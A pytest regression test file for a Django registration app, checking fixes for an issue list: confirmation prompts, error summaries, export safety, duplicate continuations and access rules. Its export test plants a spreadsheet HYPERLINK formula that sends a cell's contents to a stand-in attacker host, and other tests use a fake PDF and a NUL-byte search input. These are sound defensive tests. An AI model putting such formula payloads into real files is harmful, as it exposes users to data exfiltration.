"""Issue 8, registration items: each test failed before its fix (see each docstring)."""

import io
import threading

import pytest
from django.contrib.messages import get_messages
from django.core.exceptions import ValidationError
from django.db import IntegrityError, connection, connections, transaction
from django.urls import reverse
from django.utils.translation import gettext
from openpyxl import load_workbook

from danvan.dates import format_date
from models_registry import selectors, services
from models_registry.enums import AttachmentPurpose, ModelStatus
from models_registry.models import Attachment, Campaign, DvkModel, Indicator
from tests.factories import CampaignFactory, DvkModelFactory, FieldFactory, UnitFactory
from tests.factories.registry import days, dvk_model_in_status, exe_bytes, pdf_bytes, upload

from .test_views import form_data

pytestmark = pytest.mark.django_db


def url(name: str, *args) -> str:
    return reverse(f"models_registry:{name}", args=args)


def accepted_model(unit, campaign, **kwargs) -> DvkModel:
    return dvk_model_in_status(ModelStatus.ACCEPTED, campaign=campaign, unit=unit, **kwargs)


# --- Item 3: irreversible buttons ask first ------------------------------------------------


def test_accept_button_asks_for_confirmation(client, world):
    """Issue 8 item 3: "Tiếp nhận" accepted at once, with no question."""
    dvk_model = dvk_model_in_status(
        ModelStatus.SUBMITTED, campaign=world.campaign, unit=world.commune_a
    )
    client.force_login(world.secretariat)

    response = client.get(url("model_detail", dvk_model.pk))

    question = gettext(
        "Accept this registration? Once accepted it cannot be returned to the unit or "
        "changed any more."
    )
    assert f'data-confirm="{question}"' in response.content.decode()


def test_evidence_remove_button_asks_for_confirmation_naming_the_file(client, world):
    """Issue 8 item 3: "Xóa" deleted the evidence file at once, with no question."""
    dvk_model = DvkModelFactory(
        campaign=world.campaign, unit=world.commune_a, created_by=world.officer_a
    )
    services.attachment_add(
        dvk_model=dvk_model,
        uploaded_file=upload("Bien-ban.pdf", pdf_bytes()),
        by=world.officer_a,
        purpose=AttachmentPurpose.REGISTRATION,
    )
    client.force_login(world.officer_a)

    response = client.get(url("model_detail", dvk_model.pk))

    question = gettext(
        "Remove the file “%(name)s”? It will be deleted for good and cannot be restored."
    ) % {"name": "Bien-ban.pdf"}
    assert f'data-confirm="{question}"' in response.content.decode()


# --- Item 4: errors listed at the top, upload errors at the upload box -------------------


def test_model_create_errors_listed_on_top_with_links_to_fields(client, world):
    """Issue 8 item 4: the top said only "Vui lòng sửa các lỗi được đánh dấu bên dưới."."""
    client.force_login(world.officer_a)
    data = form_data(FieldFactory(), planned_start=days(10), planned_end=days(1))

    response = client.post(url("model_create"), {**data, "person_birth_year": "2999"})

    content = response.content.decode()
    summary = content.index("data-error-summary")
    assert summary < content.index('id="item-name"')
    top = content[summary : content.index('id="item-name"')]
    assert 'href="#id_planned_end"' in top
    assert 'href="#id_person_birth_year"' in top
    assert gettext("The end date cannot be before the start date.") in top
    assert not DvkModel.objects.exists()


def test_attachment_upload_refused_error_and_description_stay_at_the_upload_box(client, world):
    """Issue 8 item 4: the description was cleared and the error was a page-top banner."""
    dvk_model = DvkModelFactory(
        campaign=world.campaign, unit=world.commune_a, created_by=world.officer_a
    )
    client.force_login(world.officer_a)

    response = client.post(
        url("attachment_upload", dvk_model.pk),
        {
            "file": upload("bien-ban.pdf", exe_bytes()),
            "purpose": AttachmentPurpose.REGISTRATION,
            "description": "Biên bản họp dân thôn 2",
        },
    )

    content = response.content.decode()
    upload_box = content[content.index('class="upload-form') :]
    upload_box = upload_box[: upload_box.index("</form>")]
    reason = gettext("The content of this file is not a real %(type)s file.") % {"type": "PDF"}
    assert response.status_code == 200
    assert reason in upload_box
    assert 'value="Biên bản họp dân thôn 2"' in upload_box
    assert list(get_messages(response.wsgi_request)) == []
    assert Attachment.objects.count() == 0


# --- Item 5: one deadline on a returned model ---------------------------------------------


@pytest.mark.parametrize("page_name", ["model_detail", "model_update"])
def test_returned_model_shows_only_the_deadline_that_applies(client, world, page_name):
    """Issue 8 item 5: "by 3 days from now" in one box, "until the campaign's close" in the
    next; the later one applies."""
    dvk_model = dvk_model_in_status(
        ModelStatus.SUBMITTED, campaign=world.campaign, unit=world.commune_a
    )
    services.dvk_model_return(
        dvk_model=dvk_model, by=world.secretariat, reason="Bổ sung.", resubmit_by=days(3)
    )
    client.force_login(world.officer_a)

    content = client.get(url(page_name, dvk_model.pk)).content.decode()

    assert format_date(days(30)) in content  # the campaign's close (factory default)
    assert format_date(days(3)) not in content


# --- Item 9: coverage export cells are text -----------------------------------------------


def test_coverage_xlsx_unit_name_formula_is_text(client, world):
    """Issue 8 item 9: a unit named "=HYPERLINK(…)" became a live formula."""
    name = '=HYPERLINK("http://evil.example/?"&B5,"Bấm vào đây")'
    UnitFactory(name=name, parent=world.province)
    client.force_login(world.secretariat)

    response = client.get(url("coverage", world.campaign.pk), {"format": "xlsx"})

    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [row[1] for row in sheet.iter_rows(min_row=4) if name in str(row[1].value)]
    assert len(cells) == 1
    assert cells[0].data_type == "s"
    assert not str(cells[0].value).startswith("=")


# --- Item 10: one continuation per model and campaign -------------------------------------


@pytest.fixture
def carry_source(world):
    last_year = CampaignFactory(organiser=world.province, year=world.campaign.year - 1)
    return accepted_model(world.commune_a, last_year)


def test_dvk_model_second_continuation_refused_by_the_database(world, carry_source):
    """Issue 8 item 10: nothing in the database forbade two continuations."""
    DvkModelFactory(campaign=world.campaign, unit=world.commune_a, predecessor=carry_source)

    with pytest.raises(IntegrityError), transaction.atomic():
        DvkModelFactory(campaign=world.campaign, unit=world.commune_a, predecessor=carry_source)


def test_dvk_model_second_continuation_reported_by_full_clean(world, carry_source):
    DvkModelFactory(campaign=world.campaign, unit=world.commune_a, predecessor=carry_source)
    second = DvkModelFactory.build(
        campaign=world.campaign, unit=world.commune_a, predecessor=carry_source
    )

    with pytest.raises(ValidationError) as excinfo:
        second.validate_constraints()

    assert excinfo.value.messages == [
        gettext("This model has already been carried over into this campaign.")
    ]


def test_dvk_model_carry_over_twice_refused_in_vietnamese(world, carry_source):
    services.dvk_model_carry_over(source=carry_source, campaign=world.campaign, by=world.officer_a)

    with pytest.raises(services.RegistrationError) as excinfo:
        services.dvk_model_carry_over(
            source=carry_source, campaign=world.campaign, by=world.officer_a
        )

    assert str(excinfo.value) == gettext(
        "This model has already been carried over into this campaign."
    )
    assert DvkModel.objects.filter(predecessor=carry_source).count() == 1


@pytest.mark.django_db(transaction=True)
def test_dvk_model_carry_over_simultaneous_requests_create_one_continuation(world, carry_source):
    """Issue 8 item 10: a burst of "duy trì" requests created 5–6 drafts on PostgreSQL."""
    if connection.vendor != "postgresql":
        pytest.skip("real concurrent transactions need PostgreSQL (SQLite serialises writers)")
    threads_count = 6
    barrier = threading.Barrier(threads_count)
    outcomes = []

    def carry_over():
        try:
            barrier.wait()
            services.dvk_model_carry_over(
                source=carry_source, campaign=world.campaign, by=world.officer_a
            )
            outcomes.append("created")
        except services.RegistrationError as error:
            outcomes.append(str(error))
        finally:
            connections.close_all()

    threads = [threading.Thread(target=carry_over) for _ in range(threads_count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    refused = gettext("This model has already been carried over into this campaign.")
    assert sorted(outcomes) == sorted(["created"] + [refused] * (threads_count - 1))
    assert DvkModel.objects.filter(predecessor=carry_source).count() == 1


# --- Item 11: "replicates" accepts only what the search offers ------------------------------


def test_model_create_replicates_model_the_user_cannot_read_refused(client, world):
    """Issue 8 item 11: any accepted model's id was accepted in the hidden field."""
    hidden = accepted_model(world.commune_b, world.campaign)  # the campaign does not share
    client.force_login(world.officer_a)

    response = client.post(
        url("model_create"), form_data(FieldFactory(), replicates=str(hidden.pk))
    )

    assert list(response.context["form"].errors) == ["replicates"]
    assert not DvkModel.objects.filter(replicates=hidden).exists()


def test_model_create_replicates_model_offered_by_the_search_accepted(client, world):
    Campaign.objects.filter(pk=world.campaign.pk).update(share_accepted_models=True)
    shared = accepted_model(world.commune_b, world.campaign)
    client.force_login(world.officer_a)
    offered = selectors.replication_candidates(
        user=world.officer_a, query="", exclude_unit=world.commune_a
    )

    response = client.post(
        url("model_create"), form_data(FieldFactory(), replicates=str(shared.pk))
    )

    assert [m.pk for m in offered] == [shared.pk]
    assert response.status_code == 302
    assert DvkModel.objects.get(replicates=shared).unit == world.commune_a


# --- Item 12: deadline extensions of other units ------------------------------------------


@pytest.fixture
def extensions(world):
    for unit, reason in ((world.commune_a, "Bão lũ"), (world.commune_b, "Sạt lở đất")):
        services.campaign_extend_deadline(
            campaign=world.campaign, unit=unit, until=days(40), reason=reason, by=world.secretariat
        )


@pytest.mark.parametrize(
    ("who", "seen"),
    [
        ("officer_a", ["Bão lũ"]),
        ("officer_b", ["Sạt lở đất"]),
        ("secretariat", ["Bão lũ", "Sạt lở đất"]),
        ("outsider", []),
    ],
)
def test_deadline_extensions_visible_to_own_unit_and_secretariat(world, extensions, who, seen):
    """Issue 8 item 12: every user saw every unit's extension, reason and granting officer."""
    rows = selectors.deadline_extensions_visible_to(
        user=getattr(world, who), campaign=world.campaign
    )

    assert sorted(e.reason for e in rows) == seen


def test_campaign_page_hides_other_units_extension(client, world, extensions):
    client.force_login(world.officer_a)

    content = client.get(url("campaign_detail", world.campaign.pk)).content.decode()

    assert "Bão lũ" in content
    assert "Sạt lở đất" not in content


# --- Item 14: crafted input answers a message, not a 500 ---------------------------------


def test_replication_search_nul_byte_never_reaches_the_database(client, world):
    """Issue 8 item 14: a NUL byte in the search made PostgreSQL fail (a 500)."""
    client.force_login(world.officer_a)
    params = []

    def record(execute, sql, sql_params, many, context):
        params.extend(sql_params or [])
        return execute(sql, sql_params, many, context)

    with connection.execute_wrapper(record):
        response = client.get(url("replication_search"), {"q": "đường\x00"})

    assert response.status_code == 200
    assert any("duong" in str(p) for p in params)
    assert not any("\x00" in str(p) for p in params)


def test_campaign_indicators_stale_formset_refused_nothing_saved(client, world):
    """Issue 8 item 14: ids deleted in another tab raised DoesNotExist (a 500)."""
    kept = Indicator.objects.create(campaign=world.campaign, name="Hộ thoát nghèo")
    gone = Indicator.objects.create(campaign=world.campaign, name="Km đường")
    gone_pk = gone.pk
    gone.delete()  # in another tab
    client.force_login(world.secretariat)
    data = {
        "form-TOTAL_FORMS": "2",
        "form-INITIAL_FORMS": "2",
        "form-0-id": str(kept.pk),
        "form-0-name": "Hộ thoát nghèo (sửa)",
        "form-1-id": str(gone_pk),
        "form-1-name": "Km đường (sửa)",
    }

    response = client.post(url("campaign_indicators", world.campaign.pk), data)

    assert response.status_code == 200
    assert list(response.context["formset"].non_form_errors()) == [
        gettext(
            "Some of these indicators were changed or removed in another window. Nothing "
            "was saved: reload the page and make your changes again."
        )
    ]
    assert list(Indicator.objects.values_list("name", flat=True)) == ["Hộ thoát nghèo"]
